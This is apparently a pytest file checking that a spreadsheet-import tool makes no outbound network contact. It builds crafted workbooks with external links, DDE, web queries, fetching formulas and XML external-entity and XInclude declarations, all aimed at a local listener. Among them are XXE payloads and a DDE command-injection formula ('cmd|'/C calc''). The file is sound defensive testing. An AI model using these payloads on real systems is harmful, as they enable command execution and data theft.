"""Every way in which a workbook can name an address outside, through the whole program: nobody comes to it."""

from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest

from ibdesk.desk.desk import Desk
from ibdesk.domain.figure import CellSource
from ibdesk.domain.problem import Problem, Severity
from tests.corpus import entities, wrapping
from tests.corpus.kinds import GOOD, TRUTH, rows_of
from tests.corpus.promises import KNOWN, children, key, shown
from tests.corpus.writing import Raw, parts_of
from tests.listening import nobody_comes
from tests.made import cell_of
from tests.reading.files import odd_workbooks as odd

SHEET_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
NAMES = f'xmlns:r="{odd.RELATIONS}"'
Make = Callable[[str], bytes]


def with_sheet(address: str, after: str, kind: str, target: str = "http://{0}/x", **more: bytes) -> bytes:
    """The good workbook, with `after` behind its rows and a relation of the sheet that leads outside."""
    made = wrapping.parts("wide")
    sheet = made[odd.SHEET].decode().replace("<worksheet ", f"<worksheet {NAMES} ")
    made[odd.SHEET] = sheet.replace("</sheetData>", f"</sheetData>{after}").encode()
    made[SHEET_RELATIONS] = odd.relations_xml(("x", kind, target.format(address)), outside=["x"])
    return odd.pack(made | {name.replace("__", "/").replace("_dot_", "."): part for name, part in more.items()})


def with_book(address: str, kind: str, part: str, content: str, relation: str = "") -> bytes:
    """The good workbook with a part of its own kind, whose relation leads outside."""
    folder, _, name = part.rpartition("/")
    more = {f"xl/{part}": content.format(address, odd.MAIN).encode()}
    if relation:
        outside = odd.relations_xml(("r1", relation, f"http://{address}/x"), outside=["r1"])
        more[f"xl/{folder}/_rels/{name}.rels"] = outside
    return wrapping.with_relation("long", kind, part, more)


def formulas(address: str) -> bytes:
    """Formulas that would fetch something, in the place of figures, with the results that were saved."""
    written = [f'WEBSERVICE("http://{address}/x")', f'IMAGE("http://{address}/x")', f'HYPERLINK("http://{address}/x")']
    written += [f"'http://{address}/[old.xlsx]Old'!A1", 'RTD("x","127.0.0.1","y")', "cmd|'/C calc'!A0"]
    rows = [["Code", "Month", "Value"], *([each.code, each.month, each.value] for each in GOOD)]
    for place, formula in enumerate(written):
        text = formula.replace("&", "&amp;").replace('"', "&quot;")
        rows.append([7, f"2013-{place + 1:02d}", Raw("", f"<f>{text}</f><v>{place}</v>")])
    return odd.pack(parts_of({"Figures": rows}))


def template_of(address: str, declaration: str) -> bytes:
    """An instruction or a schema's place in front of the sheet, for readers that mind them."""
    return entities.sheet_changed("long", lambda sheet: declaration.format(address) + sheet)


def drawing(address: str) -> bytes:
    blip = f'<xdr xmlns:a="a" {NAMES}><a:blip r:link="x"/></xdr>'.encode()
    outside = odd.relations_xml(("x", "image", f"http://{address}/x.png"), outside=["x"])
    return with_sheet(
        address,
        '<drawing r:id="x"/>',
        "image",
        xl__drawings__drawing1_dot_xml=blip,
        xl__drawings___rels__drawing1_dot_xml_dot_rels=outside,
    )


def text_file(address: str) -> bytes:
    lines = [
        f'=WEBSERVICE("http://{address}/x")',
        f'=HYPERLINK("file://{address}/x")',
        f"<img src='http://{address}/x'>",
    ]
    quoted = "".join(
        f'7,2013-0{place},"{line.replace(chr(34), chr(34) * 2)}"\r\n' for place, line in enumerate(lines, 1)
    )
    return wrapping.csv("long") + quoted.encode()


def open_document(address: str) -> bytes:
    source = f'<table:table-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://{address}/x.ods"/>'
    return odd.ods(
        "".join(
            f"<table:table-row>{''.join(map(wrapping.ods_cell, row))}</table:table-row>"
            for row in rows_of("long", GOOD)
        ),
        around=f'<table:dde-links xmlns:x="http://{address}/x"/><office:event-listeners>{source}</office:event-listeners>',
        META__INF__x=source.encode(),
    )


LINKS: dict[str, tuple[str, Make]] = {
    "figures from another workbook": (
        "a.xlsx", lambda to: wrapping.linked("long", f"http://{to}/old.xlsx")),
    "a link to another workbook, its values kept": ("a.xlsx", partial(
        with_book, kind="externalLink", part="externalLinks/externalLink1.xml", relation="externalLinkPath",
        content='<externalLink xmlns="{1}"><externalBook r:id="r1" xmlns:r="r"/></externalLink>')),
    "a DDE link": ("a.xlsx", partial(
        with_book, kind="externalLink", part="externalLinks/externalLink1.xml",
        content='<externalLink xmlns="{1}"><ddeLink ddeService="http" ddeTopic="{0}"/></externalLink>')),
    "a web query": ("a.xlsx", partial(
        with_book, kind="connections", part="connections.xml",
        content='<connections xmlns="{1}"><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://{0}/x" '
        'xml="1"/></connection></connections>')),
    "a data base": ("a.xlsx", partial(
        with_book, kind="connections", part="connections.xml",
        content='<connections xmlns="{1}"><connection id="1" type="1" refreshOnLoad="1"><dbPr connection="'
        'Provider=SQLOLEDB;Data Source=tcp:{0}" command="x"/></connection></connections>')),
    "a pivot table of another file": ("a.xlsx", partial(
        with_book, kind="pivotCacheDefinition", part="pivotCache/pivotCacheDefinition1.xml",
        relation="externalLinkPath", content='<pivotCacheDefinition xmlns="{1}" refreshOnLoad="1"/>')),
    "a sheet that lies outside": ("a.xlsx", lambda to: odd.pack(wrapping.parts("long") | {
        "xl/_rels/workbook.xml.rels": odd.relations_xml(
            ("r1", "worksheet", f"http://{to}/sheet1.xml"), outside=["r1"])})),
    "texts that lie outside": ("a.xlsx", lambda to: odd.pack(wrapping.parts("long") | {
        "xl/_rels/workbook.xml.rels": odd.relations_xml(
            ("r1", "worksheet", "worksheets/sheet1.xml"), ("s", "sharedStrings", f"http://{to}/s.xml"),
            outside=["s"])})),
    "a link behind a cell": ("a.xlsx", partial(
        with_sheet, after='<hyperlinks><hyperlink ref="B2" r:id="x"/></hyperlinks>', kind="hyperlink")),
    "a link to a share": ("a.xlsx", partial(
        with_sheet, after='<hyperlinks><hyperlink ref="B2" r:id="x"/></hyperlinks>', kind="hyperlink",
        target="file://{0}/share/x.xlsx")),
    "a background picture": ("a.xlsx", partial(with_sheet, after='<picture r:id="x"/>', kind="image")),
    "a picture that lies outside": ("a.xlsx", drawing),
    "an OLE object that lies outside": ("a.xlsx", partial(
        with_sheet, after='<oleObjects><oleObject progId="x" link="x" r:id="x"/></oleObjects>', kind="oleObject")),
    "formulas that fetch": ("a.xlsx", formulas),
    "an entity": ("a.xlsx", lambda to: entities.declaring(
        "long", entities.STRINGS, f'<!DOCTYPE x [<!ENTITY a SYSTEM "http://{to}/x">]>')),
    "declarations elsewhere": ("a.xlsx", lambda to: entities.declaring(
        "long", odd.SHEET, f'<!DOCTYPE x SYSTEM "http://{to}/x.dtd">')),
    "an entity of parameters": ("a.xlsx", lambda to: entities.declaring(
        "long", "xl/workbook.xml", f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{to}/x"> %p;]>')),
    "an inclusion": ("a.xlsx", lambda to: entities.sheet_changed("long", lambda sheet: sheet.replace(
        "<sheetData>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="http://{to}/x"/><sheetData>'))),
    "a style sheet": ("a.xlsx", partial(
        template_of, declaration='<?xml-stylesheet type="text/xsl" href="http://{0}/x.xsl"?>')),
    "a schema": ("a.xlsx", lambda to: entities.sheet_changed("long", lambda sheet: sheet.replace(
        "<worksheet ", '<worksheet xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="{odd.MAIN} http://{to}/x.xsd" '))),
    "OpenDocument": ("a.ods", open_document),
    "a text file": ("a.csv", text_file),
    "a web page": ("a.xls", lambda to: wrapping.html("long").replace(
        b"<body>", f"<head><base href='http://{to}/'></head><body><img src='http://{to}/x'>".encode())),
    "XML of Excel 2003": ("a.xls", lambda to: wrapping.xml_2003("long").replace(
        b"?><Workbook", f'?><!DOCTYPE x SYSTEM "http://{to}/x"><Workbook'.encode())),
}  # fmt: skip
REFUSED = {
    "a sheet that lies outside", "an entity", "declarations elsewhere", "an entity of parameters", "a web page",
    "XML of Excel 2003",
}  # fmt: skip


@pytest.mark.parametrize("kind", LINKS)
def test_nobody_is_contacted_and_the_figures_arrive(kind: str, tmp_path: Path) -> None:
    name, make = LINKS[kind]
    with nobody_comes() as address, Desk.create(tmp_path / "board.ibdesk", "Test", KNOWN) as desk:
        path = tmp_path / name
        path.write_bytes(make(address))
        preview = desk.imports.preview([path])
        (file,) = preview.files
        assert (file.error is not None) is (kind in REFUSED)
        if file.error is None:
            go_on(desk, path)
            figures = {key(figure): shown(figure) for figure in desk.board.records().figures}
            assert figures | TRUTH == figures
        assert children() == []


def go_on(desk: Desk, path: Path) -> None:
    """What can be done with the workbook from there: kept, shown, marked, in the pack."""
    preview = desk.imports.preview([path])
    desk.imports.accept(preview)
    assert preview.month is not None
    source = next(cell_of(figure) for figure in desk.board.records().figures)
    assert desk.sources.show_cell(source, [path.parent]).view is not None
    problem = Problem(
        "rule", Severity.ERROR, "It is wrong.", "Correct it.", CellSource(path.name, source.sheet, source.cell)
    )
    desk.exports.marked_copy(path, [problem], path.parent / "marked.xlsx")
    desk.exports.problem_list(preview.month, path.parent / "list.xlsx")
    desk.exports.pack(preview.month, path.parent / "pack.xlsx")
    desk.exports.template(path.parent / "template.xlsx")
